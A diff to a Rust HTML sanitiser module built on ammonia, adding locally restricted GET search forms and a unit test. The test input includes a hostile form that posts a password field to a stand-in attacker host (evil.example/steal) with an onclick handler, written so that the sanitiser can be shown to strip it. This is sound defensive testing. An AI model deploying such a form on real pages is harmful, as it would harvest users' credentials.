@@ -1,9 +1,12 @@
 //! Channel HTML sanitising: what a channel returns never reaches the page executable.
 //!
 //! Allowed: ammonia's conservative set of formatting and structure tags, `class` on any tag,
-//! `http`, `https`, `mailto` and `tel` links (relative URLs too). Removed: scripts, styles,
-//! event handlers, `style` attributes, frames, forms, `javascript:`/`data:` URLs, comments.
-//! Links get `rel="noopener noreferrer"`.
+//! `http`, `https`, `mailto` and `tel` links (relative URLs too), and **search forms**: a
+//! `<form>` is always `method="get"` to a path of the portal (so it changes nothing and
+//! needs no CSRF token), with `text`, `search`, `hidden` inputs, labels and submit buttons.
+//! Removed: scripts, styles, event handlers, `style` attributes, frames, other form
+//! controls (passwords, files…), `javascript:`/`data:` URLs, comments. Links get
+//! `rel="noopener noreferrer"`.
 
 use std::collections::HashSet;
 use std::sync::LazyLock;
@@ -21,8 +24,40 @@ static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
             "footer",
             "nav",
         ])
+        .add_tags(["form", "input", "label", "button"])
         .add_tag_attributes("time", ["datetime"])
         .add_tag_attributes("a", ["hreflang"])
+        .add_tag_attributes("form", ["action", "method"])
+        .add_tag_attributes(
+            "input",
+            [
+                "type",
+                "name",
+                "value",
+                "placeholder",
+                "id",
+                "minlength",
+                "maxlength",
+                "required",
+                "autocomplete",
+            ],
+        )
+        .add_tag_attributes("label", ["for"])
+        .add_tag_attributes("button", ["type"])
+        .attribute_filter(|element, attribute, value| match (element, attribute) {
+            ("form", "method") => Some("get".into()),
+            ("form", "action") => {
+                let local = value.starts_with('/') && !value.starts_with("//") && !value.contains('\\');
+                Some(if local { value.into() } else { "/".into() })
+            }
+            ("input", "type") => Some(match value.to_ascii_lowercase().as_str() {
+                "search" => "search".into(),
+                "hidden" => "hidden".into(),
+                _ => "text".into(),
+            }),
+            ("button", "type") => Some("submit".into()),
+            _ => Some(value.into()),
+        })
         .url_schemes(HashSet::from(["http", "https", "mailto", "tel"]))
         .link_rel(Some("noopener noreferrer"))
         .strip_comments(true);
@@ -58,6 +93,27 @@ mod tests {
             assert!(!lower.contains(bad), "{bad} survived in {out}");
         }
         assert!(out.contains(r#"<p class="x">hi</p>"#));
+    }
+
+    #[test]
+    fn search_forms_stay_local_get_forms_without_secrets() {
+        let out = sanitize(
+            r#"<form method="post" action="https://evil.example/steal"><label for="q">Nom</label>
+               <input id="q" type="password" name="annuaire.q"><input type="hidden" name="tab" value="home">
+               <input type="file" name="f"><button type="reset" onclick="x()">Go</button></form>
+               <form action="/?tab=home"><input type="search" name="a.q"></form>"#,
+        );
+        assert!(out.contains(r#"<form method="get" action="/">"#), "{out}");
+        assert!(out.contains(r#"<input id="q" type="text" name="annuaire.q">"#), "{out}");
+        assert!(
+            out.contains(r#"<input type="hidden" name="tab" value="home">"#),
+            "{out}"
+        );
+        assert!(out.contains(r#"<button type="submit">Go</button>"#), "{out}");
+        assert!(out.contains(r#"<form action="/?tab=home">"#), "{out}");
+        for bad in ["password", "evil.example", "onclick", "post"] {
+            assert!(!out.contains(bad), "{bad} survived: {out}");
+        }
     }
 
     #[test]
